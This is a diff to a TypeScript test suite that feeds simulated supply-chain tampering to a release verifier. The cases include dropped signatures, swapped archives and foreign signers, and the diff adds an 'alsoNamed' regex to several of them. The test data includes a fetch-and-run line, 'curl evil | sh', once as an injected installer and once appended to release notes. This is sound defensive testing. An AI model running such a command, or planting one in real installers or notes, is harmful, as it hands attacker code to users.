@@ -28,6 +28,8 @@ export interface Tampering {
   readonly tamper: (world: Published, authority: Signing) => unknown;
   /** A line that is not ticked any more, as `text: detail`; or why it does no harm. */
   readonly found: RegExp | { readonly harmless: string };
+  /** What names the lie as well, where it is said before. */
+  readonly alsoNamed?: RegExp;
   /** How verify must be asked, where its defaults do not look. */
   readonly with?: Readonly<Record<string, string>>;
   /** What `mode: verify` says where it does not come to its checks. */
@@ -108,17 +110,20 @@ const fields: readonly (readonly [string, Edit])[] = [
   ['an SBOM that never was', (m) => void m.sboms.push({ asset: archiveName, predicateType: 'https://spdx.dev/Document/v2.3' })],
 ]; // prettier-ignore
 
+/** A field of the record that is not so, or that nobody has signed it. */
+const ofRecord = /^release\.json(?:: \w+| is signed): /;
+
 const contents: readonly Tampering[] = [
   ...[recordName, provenanceName, archiveName, archiveBundle, sums, sumsBundle].flatMap((name): Tampering[] => [
     { right: 'contents', name: `${name} is deleted`, tamper: removing(name), found: name === recordName ? /release\.json is there: it is not, and .* provenance/ : /missing: |nothing that is signed speaks of it|is not there/ },
     { right: 'contents', name: `${name} has other bytes`, tamper: put(name, '{"evil": true}\n'), found: name === recordName ? /release\.json can be read/ : new RegExp(name.replaceAll('.', '\\.')) },
     { right: 'contents', name: `${name} is cut short`, tamper: (world) => { replaceAsset(world, name, world.files.get(name)!.subarray(0, -5)); }, found: name === recordName ? /release\.json can be read/ : new RegExp(name.replaceAll('.', '\\.')) },
   ]),
-  ...fields.map(([what, edit]): Tampering => ({ right: 'contents', name: `the record is edited: ${what}; the old signature stays`, tamper: stale(edit), found: /release\.json is signed: nothing (?:vouches for it|that is signed speaks of it)/ })),
-  ...fields.map(([what, edit]): Tampering => ({ right: 'contents', name: `the record is edited: ${what}; the signature is dropped, and the record says so`, tamper: unsigned(edit), found: /release\.json is signed: nothing that is signed speaks of it|it is signed, so the record has lost its signer|has lost its provenance/ })),
+  ...fields.map(([what, edit]): Tampering => ({ right: 'contents', name: `the record is edited: ${what}; the old signature stays`, tamper: stale(edit), alsoNamed: ofRecord, found: /release\.json is signed: nothing (?:vouches for it|that is signed speaks of it)/ })),
+  ...fields.map(([what, edit]): Tampering => ({ right: 'contents', name: `the record is edited: ${what}; the signature is dropped, and the record says so`, tamper: unsigned(edit), alsoNamed: ofRecord, found: /release\.json is signed: nothing that is signed speaks of it|it is signed, so the record has lost its signer|has lost its provenance/ })),
   { right: 'contents', name: 'an installer is added', tamper: put('install.sh'), found: /not of this release: install\.sh/ },
-  { right: 'contents', name: 'an installer is added, to record and sums too', tamper: unsigned((m) => void m.assets.push({ name: 'install.sh', size: 14, sha256: sha256(Buffer.from('curl evil | sh')).slice(7) }), put('install.sh')), found: /it does not speak of install\.sh/ },
-  { right: 'contents', name: 'the archive is swapped, in record and sums too', tamper: unsigned(() => undefined, put(archiveName)), found: /it does not speak of signpost_1\.2\.0\.tar\.gz|it speaks of sha256/ },
+  { right: 'contents', name: 'an installer is added, to record and sums too', tamper: unsigned((m) => void m.assets.push({ name: 'install.sh', size: 14, sha256: sha256(Buffer.from('curl evil | sh')).slice(7) }), put('install.sh')), alsoNamed: ofRecord, found: /it does not speak of install\.sh/ },
+  { right: 'contents', name: 'the archive is swapped, in record and sums too', tamper: unsigned(() => undefined, put(archiveName)), alsoNamed: ofRecord, found: /it does not speak of signpost_1\.2\.0\.tar\.gz|it speaks of sha256/ },
   { right: 'contents', name: 'two assets swap their names', tamper: (world) => { const [a, b] = [world.files.get(archiveName)!, world.files.get(archiveBundle)!]; replaceAsset(world, archiveName, b); replaceAsset(world, archiveBundle, a); }, found: /Asset signpost_1\.2\.0\.tar\.gz: its SHA-256/ },
   { right: 'contents', name: 'everything that proves is deleted', tamper: removing(recordName, provenanceName, archiveBundle, sums, sumsBundle, recordBundle), found: /release\.json is there: it is not/ },
   { right: 'contents', name: 'everything but an evil archive is deleted', tamper: (world) => { remove(world, ...world.files.keys()); put(archiveName)(world); }, found: /release\.json is there: it is not/ },
@@ -126,7 +131,7 @@ const contents: readonly Tampering[] = [
   { right: 'contents', name: 'an upload is broken off', tamper: (world) => void (world.release.assets = world.release.assets.map((asset) => asset.name === sums ? { ...asset, state: 'starter' } : asset)), found: /broken uploads: checksums\.txt/ },
   { right: 'contents', name: 'a field that nobody knows is put into the record', tamper: (world) => { editRecord(world, (m) => void Object.assign(m, { installer: 'https://evil' })); relist(world); }, found: /release\.json can be read/ },
   { right: 'contents', name: 'the record is not JSON', tamper: put(recordName, '{'), found: /release\.json can be read/ },
-  { right: 'contents', name: 'the record has its keys in another order', tamper: (world) => { const { tag, ...rest } = JSON.parse(world.files.get(recordName)!.toString()) as { tag: string }; put(recordName, JSON.stringify({ ...rest, tag }))(world); }, found: /Asset release\.json: its SHA-256/ },
+  { right: 'contents', name: 'the record has its keys in another order', tamper: (world) => { const { tag, ...rest } = JSON.parse(world.files.get(recordName)!.toString()) as { tag: string }; put(recordName, JSON.stringify({ ...rest, tag }))(world); }, alsoNamed: ofRecord, found: /Asset release\.json: its SHA-256/ },
   { right: 'contents', name: 'the notes tell to use another digest', tamper: (world) => void (world.release.body = `docker pull ${image}@${other}`), found: /the notes tell people to use/ },
   { right: 'contents', name: 'the notes tell to run something', tamper: (world) => void (world.release.body += '\ncurl evil | sh'), found: /^The words of the page .*changed since: notes/ },
   { right: 'contents', name: 'the notes are emptied', tamper: (world) => void (world.release.body = ''), found: /the notes are empty/ },
@@ -171,8 +176,8 @@ const attestations: readonly Tampering[] = [
 
 const allThree: readonly Tampering[] = [
   { right: 'all three', name: 'registry and GitHub lose every proof, the assets keep theirs', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); }, found: /no signature/ },
-  { right: 'all three', name: 'every proof is gone everywhere, and the record says that there is none', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); remove(world, provenanceName, archiveBundle); unsigned((m) => { delete m.signature; delete m.provenance; })(world); }, found: /the record names no signature, and one is asked for/ },
-  { right: 'all three', name: 'another image, with a record of its own and no proof', tamper: (world) => { world.imageTags.set('v1.2.0', world.honest.other); unsigned((m) => { m.images[0]!.digest = world.honest.other; delete m.signature; delete m.provenance; })(world); }, found: /the record names no provenance, and it is asked for|the registry has no such digest/ },
+  { right: 'all three', name: 'every proof is gone everywhere, and the record says that there is none', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); remove(world, provenanceName, archiveBundle); unsigned((m) => { delete m.signature; delete m.provenance; })(world); }, alsoNamed: ofRecord, found: /the record names no signature, and one is asked for/ },
+  { right: 'all three', name: 'another image, with a record of its own and no proof', tamper: (world) => { world.imageTags.set('v1.2.0', world.honest.other); unsigned((m) => { m.images[0]!.digest = world.honest.other; delete m.signature; delete m.provenance; })(world); }, alsoNamed: ofRecord, found: /^release\.json is signed: nothing/ },
   { right: 'all three', name: 'every proof and the record are gone', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); remove(world, recordName, provenanceName, archiveBundle, sums, sumsBundle, recordBundle); }, found: /^release\.json: another tool made this release/ },
 ]; // prettier-ignore
 
@@ -200,7 +205,7 @@ const strangers: readonly (readonly [string, Stranger])[] = [
 const otherwise: readonly Tampering[] = strangers.flatMap(([who, by]): Tampering[] => [
   { right: 'another identity', name: `${who} signs the checksums of an evil archive`, tamper: async (world, authority) => { put(archiveName)(world); await reseal(world, authority, by(world)); }, found: /release\.json is signed: nothing vouches for it/ },
   { right: 'another identity', name: `${who} signs the image`, tamper: (world, authority) => resignImage(world, authority, by(world)), found: /^Signatures of .*no signature of .* verifies/ },
-  { right: 'another identity', name: `${who} attests, and is named by the record`, tamper: async (world, authority) => { await reprove(world, authority, () => undefined, by(world)); await resignImage(world, authority, by(world)); await reseal(world, authority, by(world), (m) => void (m.signature!.identity = by(world).san)); }, found: /signed it/ },
+  { right: 'another identity', name: `${who} attests, and is named by the record`, tamper: async (world, authority) => { await reprove(world, authority, () => undefined, by(world)); await resignImage(world, authority, by(world)); await reseal(world, authority, by(world), (m) => void (m.signature!.identity = by(world).san)); }, alsoNamed: ofRecord, found: /signed it/ },
 ]); // prettier-ignore
 
 /** What the release's own identity says, and no honest run would. */
